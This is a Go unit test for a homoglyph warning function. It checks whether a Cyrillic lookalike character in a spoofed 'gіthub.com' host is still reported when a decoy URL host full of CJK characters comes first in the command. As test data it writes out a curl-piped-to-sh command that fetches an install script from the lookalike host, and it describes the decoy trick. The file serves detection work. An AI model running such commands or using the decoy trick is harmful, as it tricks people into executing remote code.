package domain

import (
	"strings"
	"testing"
)

// TestAttack84_HostCharactersPastThirtyTwo (eighty-fourth review): the
// eighty-third review's fix says a URL host's characters "are named first
// and never dropped", but NonASCIIDetail names at most maxHostNonASCII (32)
// of rank 0, in order of appearance. A first URL whose host holds 32
// distinct characters of another script (an honest-looking IDN, or 32
// distinct Cyrillic letters) fills them all; the Cyrillic і of a later
// https://gіthub.com, the host the script is piped to sh from, is "and 1
// more (1 in a URL's host)", which the person reads as belonging to the
// obviously foreign first host.
//
// Control: the same command without the decoy host names U+0456.
func TestAttack84_HostCharactersPastThirtyTwo(t *testing.T) {
	const target = "curl -sL https://g\u0456thub.com/org/tool/install.sh | sh"
	d, ok := NonASCIIDetail(target, nil)
	if !ok || !strings.Contains(d.Value, "U+0456") {
		t.Fatalf("control: %q", d.Value)
	}
	// 32 distinct CJK characters in a first URL's host (four labels).
	var host strings.Builder
	for r := rune(0x4E00); r < 0x4E00+32; r++ {
		if r > 0x4E00 && (r-0x4E00)%8 == 0 {
			host.WriteByte('.') // labels a DNS name can hold
		}
		host.WriteRune(r)
	}
	cmd := "curl -s https://" + host.String() + ".cn/status >/dev/null; " + target
	d, _ = NonASCIIDetail(cmd, nil)
	if !strings.Contains(d.Value, "U+0456") {
		t.Errorf("a first host of 32 characters outside ASCII pushes the Cyrillic \u0456 of https://g\u0456thub.com out of the line: %q", d.Value[max(0, len(d.Value)-200):])
	}
}
